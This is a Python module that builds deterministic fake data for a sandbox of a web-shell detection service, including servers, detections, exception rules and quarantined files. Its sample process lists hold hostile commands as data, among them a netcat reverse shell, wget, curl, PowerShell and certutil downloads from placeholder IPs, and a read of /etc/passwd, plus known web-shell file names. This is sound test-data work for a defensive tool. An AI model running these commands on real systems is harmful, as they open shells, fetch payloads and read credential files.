# -*- coding: utf-8 -*-
# Copyright: ncloud.wbd contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Deterministic, realistic WBD data for the sandbox.

Everything derives from one ``random.Random(seed)`` (never the global RNG) so
two sandboxes started with the same seed and sizes serve the same IDs. Record
times are relative to ``anchor_ms`` (the sandbox start), so age filters such as
"last 7 days" select a real subset; IDs use a fixed epoch so they do not move.
"""

import bisect
import calendar
import copy
import hashlib
import itertools
import random
import time

DAY_MS = 24 * 3600 * 1000
ID_EPOCH_MS = calendar.timegm((2025, 6, 30, 0, 0, 0)) * 1000
AGENT_STATUSES = ('enable', 'disable', 'notInstalled', 'error', 'activating', 'down')
RULE_FIELDS = ('processName', 'processArg', 'executor', 'processNameOfParent', 'processArgOfParent', 'executorOfParent')
CONDITIONS = ('EQUAL', 'START', 'END', 'NOT_USE')
# The fields that hold a time (epoch milliseconds), in any record the sandbox serves.
TIME_FIELDS = (
    'detectTime',
    'collectTime',
    'actionTime',
    'lastUpdatedTime',
    'createdTime',
    'deletedTime',
    'quarantineTime',
    'accessTime',
    'modifyTime',
    'changeTime',
    'createTime',
    'lastSendNotificationTime',
)
RESOURCES = ('detections', 'exceptions', 'quarantines', 'exception-rules', 'deleted-exception-rules', 'servers')
ID_FIELDS = {
    'detections': 'detectionId',
    'exceptions': 'detectionId',
    'quarantines': 'suspicionFileId',
    'exception-rules': 'exceptedRuleId',
    'deleted-exception-rules': 'exceptedRuleId',
    'servers': 'instanceNo',
}

# Web stacks: parent process (name, args, executor, uid), web root, upload dir, shell names.
STACKS = {
    'apache': {
        'os': 'LINUX',
        'role': 'web',
        'wasType': 'apache',
        'parents': [('apache2', '/usr/sbin/apache2 -k start', 'www-data', '33'), ('httpd', '/usr/sbin/httpd -DFOREGROUND', 'apache', '48')],
        'webRoot': '/var/www/html',
        'upload': '/var/www/html/uploads',
        'shells': ('shell.php', 'cmd.php', 'up.php', 'wso.php', 'b374k.php', '.config.php'),
        'images': ('ubuntu-22.04-base', 'ubuntu-20.04-base', 'rocky-8.10-base', 'centos-7.8-64'),
    },
    'tomcat': {
        'os': 'LINUX',
        'role': 'was',
        'wasType': 'tomcat',
        'parents': [
            (
                'java',
                '/usr/lib/jvm/java-11-openjdk/bin/java -Dcatalina.base=/opt/tomcat -classpath /opt/tomcat/bin/bootstrap.jar '
                'org.apache.catalina.startup.Bootstrap start',
                'tomcat',
                '91',
            )
        ],
        'webRoot': '/opt/tomcat/webapps/ROOT',
        'upload': '/opt/tomcat/webapps/ROOT/upload',
        'shells': ('cmd.jsp', 'shell.jsp', 'x.jsp', 'browser.jsp'),
        'images': ('rocky-8.10-base', 'ubuntu-22.04-base', 'centos-7.8-64'),
    },
    'nginx': {
        'os': 'LINUX',
        'role': 'api',
        'wasType': 'nginx',
        'parents': [('nginx', 'nginx: worker process', 'nginx', '101')],
        'webRoot': '/usr/share/nginx/html',
        'upload': '/usr/share/nginx/html/files',
        'shells': ('shell.php', 'x.php', 'info.php'),
        'images': ('ubuntu-22.04-base', 'rocky-8.10-base'),
    },
    'iis': {
        'os': 'WINDOWS',
        'role': 'win',
        'wasType': 'iis',
        'parents': [('w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"', 'DefaultAppPool', '0')],
        'webRoot': 'C:\\inetpub\\wwwroot',
        'upload': 'C:\\inetpub\\wwwroot\\upload',
        'shells': ('cmd.aspx', 'help.aspx', 'a.ashx', 'shell.asp'),
        'images': ('win-2019-64-en', 'win-2022-64-en'),
    },
}
STACK_NAMES = ('apache', 'apache', 'tomcat', 'nginx', 'iis')

# (processName, processArg, weight); "{up}" is replaced with the stack's upload dir.
LINUX_CHILDREN = (
    ('sh', 'sh -c id', 4),
    ('bash', 'bash -i', 2),
    ('sh', '/bin/sh -c uname -a', 2),
    ('wget', 'wget http://203.0.113.45/x.sh -O /tmp/.x.sh', 2),
    ('curl', 'curl -fsSL http://198.51.100.23/p.sh', 1),
    ('python3', 'python3 -c import pty;pty.spawn("/bin/bash")', 1),
    ('php', '/usr/bin/php {up}/cmd.php', 2),
    ('cat', 'cat /etc/passwd', 2),
    ('whoami', 'whoami', 2),
    ('nc', 'nc -e /bin/sh 192.0.2.77 4444', 1),
)
WINDOWS_CHILDREN = (
    ('cmd.exe', 'cmd.exe /c whoami', 4),
    ('cmd.exe', 'cmd.exe /c ipconfig /all', 2),
    ('net.exe', 'net user', 1),
    ('powershell.exe', 'powershell.exe -nop -w hidden -c iwr http://203.0.113.45/a.ps1', 1),
    ('certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.23/a.exe', 1),
)
SUSPICIOUS_IPS = (
    ('203.0.113.45', 'CN'),
    ('203.0.113.7', 'RU'),
    ('198.51.100.23', 'US'),
    ('198.51.100.9', 'NL'),
    ('192.0.2.77', 'KR'),
    ('192.0.2.130', 'KR'),
    ('203.0.113.200', 'CN'),
    ('198.51.100.150', 'RU'),
)
MEMOS = ('checked by secops', 'false positive: deploy script', 'ticket SEC-1234', 'investigating', '\uc545\uc131 \uc5ec\ubd80 \ud655\uc778 \uc911')
WIN_OWNERS = ('S-1-5-32-544', 'S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415')


class IdFactory(object):
    """Makes 22-digit IDs: YYYYMMDDhhmmss of a fixed-epoch time + an 8-digit counter."""

    def __init__(self):
        self.counter = itertools.count(1)

    def make(self, age_ms):
        stamp = time.strftime('%Y%m%d%H%M%S', time.gmtime((ID_EPOCH_MS - age_ms) // 1000))
        return '%s%08d' % (stamp, next(self.counter))


class Dataset(object):
    """All generated records plus lookup indexes. Changed after the build only by ``insert_head`` and
    ``delete_head`` (the ``mutate`` fault), which change lists in place with single slice operations so
    concurrent readers see the list before or after, never half-changed, and by the write operations
    (``sandbox_writes``), which run under the server's data lock that reads also hold."""

    def __init__(self, seed, anchor_ms):
        self.seed = seed
        self.anchor_ms = anchor_ms
        self.member_no = 0
        self.servers = []
        self.ghost_servers = []
        self.profiles = {}
        self.groups = []
        self.detections = []
        self.exceptions = []
        self.exception_rules = []
        self.deleted_exception_rules = []
        self.quarantines = []
        self.quarantined = {}
        self.objects = {}  # fixture files with overrides: prebuilt suspicious objects by suspicionFileId
        self.alarm_interval = {}
        self.index = {}
        self.inserted = 0  # records added by insert_head, numbering their IDs
        self.version = 0  # bumped by every change, so cached search results are never stale

    def records(self, resource):
        """Records of one resource name as used in URLs (``exception-rules`` ...)."""
        return getattr(self, resource.replace('-', '_'))

    def ids(self, resource):
        field = ID_FIELDS[resource]
        return [rec[field] for rec in self.records(resource)]

    def suspicious_objects(self, resource, detection_id):
        """Objects of one detection, built lazily (stable per seed); None if the ID is unknown."""
        detection = self.index.get((resource, detection_id))
        if detection is None:
            return None
        return [
            self.objects.get(f['suspicionFileId']) or self.quarantined.get(f['suspicionFileId']) or build_object(self, detection, f)
            for f in detection['suspicionFiles'] or []
        ]

    def _new_id(self, now_ms):
        """22 digits like the others, but from the current time and a '9' series no generated ID uses."""
        self.inserted += 1
        return '%s9%07d' % (time.strftime('%Y%m%d%H%M%S', time.gmtime(now_ms // 1000)), self.inserted)

    def insert_head(self, resource, count, now_ms):
        """Put ``count`` new detections (copies of the newest ones with fresh IDs, detected now) at the head of
        ``detections`` or ``exceptions``, as an agent reporting while a client pages would; returns their IDs."""
        if resource not in ('detections', 'exceptions'):
            raise ValueError('mutate can insert only detections or exceptions, not %s' % resource)
        records = self.records(resource)
        new = []
        for number in range(count if records else 0):
            record = copy.deepcopy(records[number % len(records)])
            record.update(
                detectionId=self._new_id(now_ms),
                detectTime=now_ms,
                actionTime=now_ms,
                collectTime=now_ms,
                lastUpdatedTime=now_ms,
                actionStatus='blank',
                isChecked=False,
                memo='',
            )
            for item in (record.get('suspicionFiles') or []) + (record.get('suspicionIps') or []):
                item['detectionId'] = record['detectionId']
                item['suspicionFileId' if 'suspicionFileId' in item else 'suspicionIpId'] = self._new_id(now_ms)
            new.append(record)
        for record in new:
            self.index[(resource, record['detectionId'])] = record
        records[0:0] = new
        self.version += 1
        return [record['detectionId'] for record in new]

    def delete_head(self, resource, count):
        """Remove the first ``count`` records of a resource (the newest: an operator deleting what was just
        listed); returns their IDs."""
        records = self.records(resource)
        gone = records[:count]
        del records[: len(gone)]
        self.version += 1
        for record in gone:
            self.index.pop((resource, record.get('detectionId')), None)
        return [rec[ID_FIELDS[resource]] for rec in gone]


def _weighted(rng, items, cum_weights):
    return items[bisect.bisect(cum_weights, rng.random() * cum_weights[-1])]


def _cum(weights):
    return list(itertools.accumulate(weights))


def make_servers(rng, ids, data, count, ghosts):
    """Registered targets (every agent status present) plus unregistered 'ghost' hosts."""
    numbers = rng.sample(range(10000000, 100000000), count + ghosts)
    extra = max(0, count - len(AGENT_STATUSES))
    enabled = int(round(extra * 0.75))
    statuses = (
        list(AGENT_STATUSES[:count]) + ['enable'] * enabled + [_weighted(rng, AGENT_STATUSES[1:], _cum((10, 8, 4, 4, 4))) for dummy in range(extra - enabled)]
    )
    rng.shuffle(statuses)
    groups = {}
    seq = {}
    for pos, number in enumerate(numbers):
        stack = STACK_NAMES[rng.randrange(len(STACK_NAMES))]
        env = ('prd', 'prd', 'stg', 'dev')[rng.randrange(4)]
        spec = STACKS[stack]
        key = (spec['role'], env)
        seq[key] = seq.get(key, 0) + 1
        if key not in groups:
            groups[key] = {'serverGroupId': str(rng.randint(1000000, 9999999)), 'serverGroupName': '%s-%s-group' % key}
        server = {
            'instanceNo': str(number),
            'serverName': '%s-%s-%03d' % (spec['role'], env, seq[key]),
            'serverImageName': spec['images'][rng.randrange(len(spec['images']))],
            'serverStatus': 'running' if rng.random() < 0.9 else 'stopped',
            'serverType': ('s2-g3', 's4-g3', 'c4-g3', 'm8-g3')[rng.randrange(4)],
            'serverEnvType': 'VM' if rng.random() < 0.85 else 'KUBERNETES',
            'ipAddress': '10.%d.%d.%d' % (rng.randint(0, 40), rng.randint(0, 255), rng.randint(4, 250)),
            'agentStatus': statuses[pos] if pos < count else 'notInstalled',
            'serverGroupId': groups[key]['serverGroupId'],
            'serverGroupName': groups[key]['serverGroupName'],
            'platform': 'VPC',
            'wasConfigList': [{'wasType': spec['wasType'], 'webRootPath': spec['webRoot'], 'fileUploadPath': spec['upload']}],
            'memo': MEMOS[rng.randrange(3)] if rng.random() < 0.2 else '',
        }
        parent = spec['parents'][rng.randrange(len(spec['parents']))]
        data.profiles[server['instanceNo']] = (stack, parent)
        (data.servers if pos < count else data.ghost_servers).append(server)
    data.groups = sorted(groups.values(), key=lambda g: g['serverGroupName'])


def _files(rng, ids, spec, *, detection_id, detect_time, owner, age_ms):
    files = []
    for dummy in range(_weighted(rng, (0, 1, 2, 3), (2, 6, 9, 10))):
        sep = '\\' if spec['os'] == 'WINDOWS' else '/'
        modify = detect_time - rng.randint(60, 3 * 86400) * 1000
        files.append(
            {
                'suspicionFileId': ids.make(age_ms),
                'fileOriginName': spec['upload'] + sep + spec['shells'][rng.randrange(len(spec['shells']))],
                'fileOwner': owner,
                'weight': rng.randint(1, 100),
                'accessTime': detect_time // 1000 * 1000 - rng.randint(0, 60) * 1000,
                'modifyTime': modify // 1000 * 1000,
                'changeTime': modify // 1000 * 1000,
                'detectionId': detection_id,
            }
        )
    return files


def _ips(rng, ids, detection_id, age_ms):
    picks = rng.sample(SUSPICIOUS_IPS, _weighted(rng, (0, 1, 2), (3, 8, 10)))
    return [{'suspicionIpId': ids.make(age_ms), 'detectionId': detection_id, 'suspicionIp': ip, 'country': country, 'platform': 'VPC'} for ip, country in picks]


class DetectionMaker(object):
    """Builds one detection record; holds the cumulative weights so 100k records stay fast."""

    def __init__(self, data, rng, ids, rule_ids):
        self.data = data
        self.rng = rng
        self.ids = ids
        self.rule_ids = rule_ids
        self.linux_cum = _cum(c[2] for c in LINUX_CHILDREN)
        self.windows_cum = _cum(c[2] for c in WINDOWS_CHILDREN)

    def child(self, spec):
        if spec['os'] == 'WINDOWS':
            name, arg, dummy = _weighted(self.rng, WINDOWS_CHILDREN, self.windows_cum)
        else:
            name, arg, dummy = _weighted(self.rng, LINUX_CHILDREN, self.linux_cum)
        return name, arg.replace('{up}', spec['upload'])

    def make(self, server, age_ms):
        rng = self.rng
        stack, parent = self.data.profiles[server['instanceNo']]
        spec = STACKS[stack]
        detect_time = self.data.anchor_ms - age_ms
        detection_id = self.ids.make(age_ms)
        name, arg = self.child(spec)
        confirmed = rng.random() < 0.4
        collect = detect_time + rng.randint(100, 2000)
        owner = WIN_OWNERS[rng.randrange(2)] if spec['os'] == 'WINDOWS' else (parent[2] if rng.random() < 0.7 else 'root')
        return {
            'detectionId': detection_id,
            'instanceNo': server['instanceNo'],
            'hostName': server['serverName'],
            'serverName': server['serverName'],
            'containerName': '' if server['serverEnvType'] == 'VM' else 'web-7d9f-%05d' % rng.randrange(99999),
            'privateIPofServer': server['ipAddress'],
            'command': arg,
            'processName': name,
            'processArg': arg,
            'processId': str(rng.randint(1000, 65000)),
            'executor': parent[2],
            'processIdOfParent': str(rng.randint(300, 9000)),
            'processNameOfParent': parent[0],
            'processArgOfParent': parent[1],
            'executorOfParent': parent[2],
            'uid': parent[3],
            'euid': parent[3],
            'gid': parent[3],
            'egid': parent[3],
            'actionStatus': 'confirmed' if confirmed else 'blank',
            'memo': MEMOS[rng.randrange(len(MEMOS))] if rng.random() < 0.15 else '',
            'actionTime': detect_time - rng.randint(0, 3000),
            'detectTime': detect_time,
            'collectTime': collect,
            'lastUpdatedTime': min(self.data.anchor_ms, detect_time + rng.randint(3600, 3 * 86400) * 1000) if confirmed else collect,
            'isChecked': confirmed,
            'memberNo': self.data.member_no,
            'detectionRuleId': self.rule_ids[rng.randrange(len(self.rule_ids))],
            'suspicionFiles': _files(rng, self.ids, spec, detection_id=detection_id, detect_time=detect_time, owner=owner, age_ms=age_ms),
            'suspicionIps': _ips(rng, self.ids, detection_id, age_ms),
            'osType': spec['os'],
        }


def build_object(data, detection, sfile):
    """Full suspicious-object record (wbd-api 2.5) for one suspicion file; seeded per file ID."""
    rng = random.Random('%s:%s' % (data.seed, sfile['suspicionFileId']))
    windows = detection['osType'] == 'WINDOWS'
    malware = sfile['weight'] >= 40 and rng.random() < 0.8
    return {
        'suspicionFileId': sfile['suspicionFileId'],
        'detectionId': detection['detectionId'],
        'hostName': detection['hostName'],
        'serverName': detection['serverName'],
        'osType': detection['osType'],
        'fileOriginName': sfile['fileOriginName'],
        'quarantineFileName': '',
        'fileSize': rng.randint(120, 250000),
        'sha1': hashlib.sha1(('%s:%s' % (data.seed, sfile['suspicionFileId'])).encode('ascii')).hexdigest(),
        'privateIPofServer': detection['privateIPofServer'],
        'fileAuthority': 'FullControl' if windows else ('-rw-r--r--', '-rwxrwxrwx')[rng.randrange(2)],
        'fileOwner': sfile['fileOwner'],
        'fileGroup': 'Administrators' if windows else sfile['fileOwner'],
        'accessTime': sfile['accessTime'],
        'modifyTime': sfile['modifyTime'],
        'changeTime': sfile['changeTime'],
        'instanceNo': detection['instanceNo'],
        'hashScanResult': 'malware' if malware else 'notMalware',
        'memo': '',
        'weight': sfile['weight'],
        'status': 'quarantineFailed' if rng.random() < 0.05 else 'detected',
    }


def _rule_base(data, rng, ids, name, age_ms):
    base = {
        'disabled': False,
        'actionName': None,
        'permission': None,
        'exceptedRuleId': ids.make(age_ms),
        'exceptedRuleName': name,
        'exceptTargetType': 'everyServer',
        'exceptTarget': '',
        'exceptTargetName': '',
        'createdTime': data.anchor_ms - age_ms,
        'deletedTime': None,
        'isDeleted': False,
        'memo': None,
        'memberNo': data.member_no,
        'groupIsDeleted': None,
    }
    for field in RULE_FIELDS:
        base[field] = ''
        base[field + 'Condition'] = 'NOT_USE'
    return base


def _target(data, rule, kind, stacks=None, server=None):
    """Point a rule at a server or its group (preferring given stacks); everyServer needs no target."""
    if server is None:
        servers = [s for s in data.servers if stacks is None or data.profiles[s['instanceNo']][0] in stacks] or data.servers
        server = servers[0] if servers else None
    if kind == 'server' and server:
        rule.update(exceptTargetType='server', exceptTarget=server['instanceNo'], exceptTargetName=server['serverName'])
    elif kind == 'serverGroup' and server:
        rule.update(exceptTargetType='serverGroup', exceptTarget=server['serverGroupId'], exceptTargetName=server['serverGroupName'], groupIsDeleted=False)


# name, target kind, preferred stacks, {field: (condition, value)}, extra attributes
RULE_TEMPLATES = (
    ('allow-php-cli-upload', 'server', ('apache', 'nginx'), {'processArg': ('START', '/usr/bin/php')}, {}),
    ('temp-allow-everything', 'serverGroup', ('tomcat',), {}, {'memo': 'temporary during migration - remove'}),
    (
        'iis-whoami-monitoring',
        'everyServer',
        None,
        {'processName': ('EQUAL', 'cmd.exe'), 'processArg': ('END', 'whoami'), 'executor': ('EQUAL', 'DefaultAppPool')},
        {},
    ),
    (
        'tomcat-healthcheck',
        'server',
        ('tomcat',),
        {'processNameOfParent': ('EQUAL', 'java'), 'executorOfParent': ('EQUAL', 'tomcat'), 'processName': ('EQUAL', 'sh'), 'processArg': ('START', 'sh -c')},
        {},
    ),
    (
        'legacy-batch-group',
        'serverGroup',
        None,
        {'executor': ('EQUAL', 'www-data'), 'processName': ('EQUAL', 'bash')},
        {'groupIsDeleted': True, 'exceptTarget': '9000001', 'exceptTargetName': 'legacy-batch-group'},
    ),
    ('nginx-deploy-scripts', 'server', ('nginx',), {'processNameOfParent': ('EQUAL', 'nginx'), 'processArg': ('END', '.sh')}, {'disabled': True}),
)


def _template_rule(data, rng, ids, template, age_ms):
    name, kind, stacks, conditions, extra = template
    rule = _rule_base(data, rng, ids, name, age_ms)
    _target(data, rule, kind, stacks)
    for field, (condition, value) in conditions.items():
        rule[field] = value
        rule[field + 'Condition'] = condition
    rule.update(extra)
    return rule


def _rule_value(condition, value):
    """Derive a plausible rule value: prefixes/suffixes are whole words, not random slices."""
    words = value.split(' ')
    if condition == 'NOT_USE':
        return ''
    if condition == 'START' and len(words) > 1:
        return words[0]
    if condition == 'END' and len(words) > 1:
        return words[-1]
    return value


def _random_rule(data, rng, ids, maker, *, number, age_ms):
    """A rule whose values come from a real server profile, so it can match generated detections."""
    rule = _rule_base(data, rng, ids, 'rule-%03d' % number, age_ms)
    pool = data.servers or data.ghost_servers
    server = pool[rng.randrange(len(pool))]
    _target(data, rule, ('server', 'serverGroup', 'everyServer')[rng.randrange(3)], server=server)
    stack, parent = data.profiles[server['instanceNo']]
    name, arg = maker.child(STACKS[stack])
    values = dict(zip(RULE_FIELDS, (name, arg, parent[2], parent[0], parent[1], parent[2])))
    for field in RULE_FIELDS:
        condition = _weighted(rng, CONDITIONS, (3, 4, 5, 10))
        rule[field] = _rule_value(condition, values[field])
        rule[field + 'Condition'] = condition
    return rule


def rule_matches(rule, record):
    """Apply a rule's six AND-ed conditions (EQUAL/START/END/NOT_USE) to a detection."""
    for field in RULE_FIELDS:
        condition, value, actual = rule[field + 'Condition'], rule[field], record.get(field) or ''
        if condition == 'EQUAL' and actual != value:
            return False
        if condition == 'START' and not actual.startswith(value):
            return False
        if condition == 'END' and not actual.endswith(value):
            return False
    return True


def _force_match(rule, record):
    """Rewrite a detection so the rule really excepts it (makes the excepted list plausible)."""
    for field in RULE_FIELDS:
        condition, value = rule[field + 'Condition'], rule[field]
        if condition == 'EQUAL':
            record[field] = value
        elif condition == 'START' and not record[field].startswith(value):
            record[field] = value + ' ' + record[field]
        elif condition == 'END' and not record[field].endswith(value):
            record[field] = record[field] + ' ' + value
    record['command'] = record['processArg']


def _rule_server(data, rng, rule):
    if rule['exceptTargetType'] == 'server':
        found = [s for s in data.servers if s['instanceNo'] == rule['exceptTarget']]
    elif rule['exceptTargetType'] == 'serverGroup':
        found = [s for s in data.servers if s['serverGroupId'] == rule['exceptTarget']]
    else:
        found = data.servers
    found = found or data.servers or data.ghost_servers
    return found[rng.randrange(len(found))]


def make_rules(data, rng, ids, maker, *, count, deleted):
    for number in range(count):
        age = rng.randint(1, 120) * DAY_MS + rng.randint(0, DAY_MS)
        if number < len(RULE_TEMPLATES):
            rule = _template_rule(data, rng, ids, RULE_TEMPLATES[number], age)
        else:
            rule = _random_rule(data, rng, ids, maker, number=number + 1, age_ms=age)
        data.exception_rules.append(rule)
    for number in range(deleted):
        age = rng.randint(30, 200) * DAY_MS
        rule = _random_rule(data, rng, ids, maker, number=count + number + 1, age_ms=age)
        rule.update(isDeleted=True, deletedTime=rule['createdTime'] + rng.randint(1, 29) * DAY_MS, exceptedRuleName='deleted-rule-%03d' % (number + 1))
        data.deleted_exception_rules.append(rule)
    data.exception_rules.sort(key=lambda r: -r['createdTime'])
    data.deleted_exception_rules.sort(key=lambda r: -r['deletedTime'])


def _ages(rng, count):
    """Ages (ms before the anchor) spread over 30 days, oldest first so ID counters grow with time."""
    return sorted((rng.randint(60000, 30 * DAY_MS) for dummy in range(count)), reverse=True)


def make_detections(data, rng, maker, count):
    pool = data.servers or data.ghost_servers
    for number, age in enumerate(_ages(rng, count)):
        ghost = data.ghost_servers and (rng.random() < 0.03 or number == count // 2)
        source = data.ghost_servers if ghost else pool
        data.detections.append(maker.make(source[rng.randrange(len(source))], age))
    data.detections.reverse()


def make_exceptions(data, rng, maker, count):
    active = [r for r in data.exception_rules if not r['disabled']] or data.exception_rules
    for age in _ages(rng, count):
        rule = active[rng.randrange(len(active))] if active else None
        pool = data.servers or data.ghost_servers
        server = _rule_server(data, rng, rule) if rule else pool[rng.randrange(len(pool))]
        record = maker.make(server, age)
        if rule and rng.random() < 0.8:
            _force_match(rule, record)
        data.exceptions.append(record)
    data.exceptions.reverse()


def make_quarantines(data, rng, count):
    candidates = [(d, f) for d in data.detections[: max(count * 20, 200)] for f in d['suspicionFiles']]
    picks = rng.sample(candidates, min(count, len(candidates)))
    for detection, sfile in picks:
        record = build_object(data, detection, sfile)
        record.update(
            status='quarantined',
            quarantineFileName='%s.%s.wbdq' % (sfile['fileOriginName'], sfile['suspicionFileId']),
            quarantineTime=min(data.anchor_ms, detection['detectTime'] + rng.randint(600, 2 * 86400) * 1000),
        )
        # Every third file gets a note (derived from its ID, so the shared generator's sequence is unchanged).
        if int(sfile['suspicionFileId']) % 3 == 0:
            record['memo'] = 'quarantined by secops, ticket SEC-%04d' % (int(sfile['suspicionFileId']) % 10000)
        data.quarantines.append(record)
        data.quarantined[sfile['suspicionFileId']] = record
    data.quarantines.sort(key=lambda q: -q['quarantineTime'])


def make_dataset(seed=1, servers=30, detections=300, *, exception_rules=12, deleted_exception_rules=4, excepted=20, quarantines=10, anchor_ms=None):
    """Build the whole dataset; ``anchor_ms`` (default: now) is the 'current time' the data is relative to."""
    anchor = int(time.time() * 1000) if anchor_ms is None else int(anchor_ms)
    data = Dataset(seed, anchor)
    rng = random.Random(seed)
    ids = IdFactory()
    data.member_no = rng.randint(2000000, 2999999)
    make_servers(rng, ids, data, servers, max(1, servers // 10))
    maker = DetectionMaker(data, rng, ids, [ids.make(400 * DAY_MS + n) for n in range(6)])
    make_rules(data, rng, ids, maker, count=exception_rules, deleted=deleted_exception_rules)
    make_detections(data, rng, maker, detections)
    make_exceptions(data, rng, maker, excepted)
    make_quarantines(data, rng, quarantines)
    data.alarm_interval = {
        'id': ids.make(300 * DAY_MS),
        'memberNo': str(data.member_no),
        'interval': 600000,
        'lastSendNotificationTime': anchor - rng.randint(60, 86400) * 1000,
        'createTime': anchor - 300 * DAY_MS,
        'lastUpdatedTime': anchor - 20 * DAY_MS,
        'platform': 'VPC',
        'isDeleted': False,
    }
    for resource in ('detections', 'exceptions'):
        for record in data.records(resource):
            data.index[(resource, record['detectionId'])] = record
    return data
